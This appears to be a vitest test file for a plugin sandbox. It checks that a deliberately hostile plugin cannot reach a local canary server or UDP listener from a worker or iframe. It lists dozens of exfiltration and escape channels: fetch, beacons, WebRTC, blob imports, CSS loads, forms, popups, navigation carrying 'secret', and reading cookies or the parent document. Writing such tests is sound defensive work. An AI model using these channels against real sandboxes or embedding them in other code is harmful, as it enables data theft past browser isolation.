/** Every known way out of a sandbox, tried from inside one. The canary is what they aim at. */
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { type Canary, canaryServer } from '@mortise/testing'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Stage } from './stage/page.ts'
import { useStage } from './stage/use-stage.ts'

declare const stage: Stage

const tools = useStage()
const udp = createSocket('udp4')
const datagrams: Buffer[] = []
let canary: Canary

beforeAll(async () => {
  canary = await canaryServer()
  udp.on('message', (datagram) => datagrams.push(datagram))
  udp.bind(0, '127.0.0.1')
  await once(udp, 'listening')
})
afterAll(async () => {
  udp.close()
  await canary?.close()
})

/** Channels of both realms. Each is a function body with `to`, the canary's address, in reach. */
const shared: Record<string, string> = {
  fetch: "return fetch(to + '/fetch', { mode: 'no-cors' })",
  'fetch with keepalive':
    "return fetch(to + '/keepalive', { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' })",
  'fetch of the host': "return fetch('/api/v1/plugins').then((r) => { leaked.push('host ' + r.status) })",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', to + '/xhr'); x.send()",
  WebSocket: "new WebSocket(to.replace('http', 'ws') + '/ws')",
  EventSource: "new EventSource(to + '/sse')",
  WebTransport: "new WebTransport(to.replace('http:', 'https:') + '/wt')",
  'import()': "return import(to + '/import.js')",
  'import() of a data address': "return import('data:text/javascript,fetch(\"' + to + '/data\")')",
  'import() of a blob':
    "return import(URL.createObjectURL(new Blob(['fetch(\"' + to + '/blob\")'], { type: 'text/javascript' })))",
  'worker of the canary': "new Worker(to + '/worker.js')",
  'module worker of the canary': "new Worker(to + '/worker.js', { type: 'module' })",
  'worker of a blob':
    'new Worker(URL.createObjectURL(new Blob([\'fetch("\' + to + \'/blob-worker", { mode: "no-cors" })\'])))',
  'shared worker': "new SharedWorker(to + '/shared.js')",
  eval: "return (0, eval)('fetch(\"' + to + '/eval\")')",
  'new Function': "return new Function('return fetch(\"' + to + '/function\")')()",
  'a timer with text': "setTimeout('fetch(\"' + to + '/timer\")')",
  'Cache API': "return caches.open('x').then((c) => c.add(to + '/cache'))",
  IndexedDB: "indexedDB.open('x').onsuccess = () => { leaked.push('indexedDB') }",
  'file system': "return navigator.storage.getDirectory().then(() => { leaked.push('opfs') })",
  'background fetch': "return navigator.serviceWorker.register('/sw.js').then(() => { leaked.push('sw') })",
  'font face': "const f = new FontFace('x', 'url(' + to + '/font)'); return f.load()",
}

const frameOnly: Record<string, string> = {
  sendBeacon: "if (!navigator.sendBeacon(to + '/beacon', 'secret')) throw 0",
  image: "new Image().src = to + '/image'",
  'style background': "document.body.style.background = 'url(' + to + '/background)'",
  'style element': "add('style').textContent = '@import \"' + to + '/style.css\"'",
  'adopted sheet':
    "const s = new CSSStyleSheet(); s.replaceSync('body { list-style-image: url(' + to + '/adopted) } @font-face { font-family: y; src: url(' + to + '/face) } body { font-family: y }'); document.adoptedStyleSheets.push(s)",
  'stylesheet link': "add('link', { rel: 'stylesheet', href: to + '/link.css' })",
  'prefetch, preload, preconnect, dns-prefetch, icon':
    "for (const rel of ['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'icon', 'manifest', 'prerender']) add('link', { rel, href: to + '/' + rel, as: 'image' })",
  script: "add('script', { src: to + '/script.js' })",
  'inline script': "add('script').textContent = 'fetch(\"' + to + '/inline\")'",
  'inline handler': "add('div', { onclick: 'fetch(\"' + to + '/handler\")' }).click()",
  'speculation rules':
    "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [to + '/speculation'] }] }); document.body.append(s)",
  'nested frame': "add('iframe', { src: to + '/frame' })",
  'nested srcdoc':
    "add('iframe', { srcdoc: '<img src=\"' + to + '/srcdoc\"><script>fetch(\"' + to + '/srcdoc-fetch\")</scr' + 'ipt>' })",
  'object and embed': "add('object', { data: to + '/object' }); add('embed', { src: to + '/embed' })",
  media:
    "add('video', { src: to + '/video', autoplay: '' }); add('audio', { src: to + '/audio', autoplay: '' })",
  'svg use and image':
    "document.body.insertAdjacentHTML('beforeend', '<svg><use href=\"' + to + '/use#x\"/><image href=\"' + to + '/svg\"/></svg>')",
  form: "const f = add('form', { action: to + '/form', method: 'post' }); f.submit()",
  'form in a new window': "const f = add('form', { action: to + '/form2', target: '_blank' }); f.submit()",
  popup: "window.open(to + '/popup')",
  'link in a new window': "add('a', { href: to + '/anchor', target: '_blank', rel: 'opener' }).click()",
  'hyperlink ping': "add('a', { href: '#', ping: to + '/ping' }).click()",
  'top navigation': "top.location = to + '/top'",
  'parent navigation': "parent.location.href = to + '/parent'",
  'link to the top': "add('a', { href: to + '/top-link', target: '_top' }).click()",
  cookie: "document.cookie = 'x=1'; leaked.push('cookie ' + document.cookie)",
  storage: "localStorage.setItem('x', '1'); leaked.push('localStorage')",
  'the host document': "leaked.push('parent ' + parent.document.title)",
  'meta policy with a report address':
    "add('meta', { 'http-equiv': 'Content-Security-Policy', content: \"img-src 'none'; report-uri \" + to + '/report' }); new Image().src = to + '/reported'",
  WebRTC:
    "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }, { urls: 'turn:127.0.0.1:' + udpPort, username: 'x', credential: 'y' }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o))",
  'WebRTC of a srcdoc child':
    "const f = add('iframe', { srcdoc: '' }); const C = f.contentWindow.RTCPeerConnection; const c = new C({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o))",
}

function attacker(channels: Readonly<Record<string, string>>): string {
  const { port } = udp.address() as AddressInfo
  const attempts = Object.entries(channels).map(
    ([name, body]) => `[${JSON.stringify(name)}, () => { ${body} }]`,
  )
  return `
    const to = ${JSON.stringify(canary.url)}
    const udpPort = ${port}
    const leaked = []
    const add = (name, attributes = {}) => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
      return element
    }
    const attempts = [${attempts.join(',\n')}]
    export default {
      widgets: {
        async main({ root, log }) {
          for (const [name, attempt] of attempts) {
            try { await Promise.race([attempt(), new Promise((r) => setTimeout(r, 300))]) } catch {}
          }
          // Longer than a connection to this machine takes, for what was only begun.
          await new Promise((resolve) => setTimeout(resolve, 1500))
          log.info('tried', { count: attempts.length, leaked })
          root.textContent = 'done'
        },
      },
    }
  `
}

test.each(['worker', 'frame'] as const)('nothing leaves a %s', async (surface) => {
  const channels = surface === 'frame' ? { ...shared, ...frameOnly } : shared
  canary.clear()
  await tools.open([{ id: 'attacker', entry: attacker(channels), surface }], { mount: 60_000, load: 20_000 })
  const before = tools.server.requests.length
  expect(await tools.page.evaluate(() => stage.mountAll())).toMatchObject([{ status: 'running' }])
  const lines = await tools.page.evaluate(() => stage.logs.filter(({ message }) => message === 'tried'))
  expect(lines).toMatchObject([{ data: { count: Object.keys(channels).length, leaked: [] } }])
  expect(canary.requests).toEqual([])
  expect(canary.connections).toBe(0)
  expect(datagrams).toEqual([])
  const own = /^(attacker\.)?localhost:\d+ \/(sandbox|sandbox-assets|plugin-files)\//
  expect(tools.server.requests.slice(before).filter((request) => !own.test(request))).toEqual([])
  expect(new URL(tools.page.url()).origin).toBe(tools.server.origin)
  expect(tools.page.context().pages()).toHaveLength(1)
  expect(await tools.page.evaluate(() => [document.cookie, localStorage.length])).toEqual(['', 0])
})

test.each([
  ['location', "location = to + '/location?secret'"],
  ['location.replace', "location.replace(to + '/replace?secret')"],
  ['meta refresh', "add('meta', { 'http-equiv': 'refresh', content: '0; url=' + to + '/refresh?secret' })"],
  ['a link', "add('a', { href: to + '/link?secret' }).click()"],
  ['a download', "add('a', { href: to + '/download?secret', download: 'x' }).click()"],
  ['another sandbox', "location = location.href.replaceAll('attacker', 'victim')"],
  ['a data address', "location = 'data:text/html,<script>1</scr' + 'ipt>'"],
])('a frame that navigates itself through %s reaches nothing and is stopped', async (_name, body) => {
  canary.clear()
  const entry = attacker({}).replace(
    "root.textContent = 'done'",
    `root.textContent = 'done'; setTimeout(() => { ${body} }, 100)`,
  )
  const victim = { id: 'victim', entry: 'export default {}', surface: 'frame', widgets: [] } as const
  await tools.open([{ id: 'attacker', entry, surface: 'frame' }, victim], { restarts: [] })
  await tools.page.evaluate(() => stage.mountAll(['running']))
  expect(await tools.page.evaluate(() => stage.settled(0, ['failed']))).toMatchObject({
    error: { code: 'PLUGIN_QUARANTINED', data: { code: 'BRIDGE_VIOLATION' } },
  })
  expect(await tools.page.locator('iframe').count()).toBe(0)
  expect(canary.requests).toEqual([])
  expect(canary.connections).toBe(0)
})
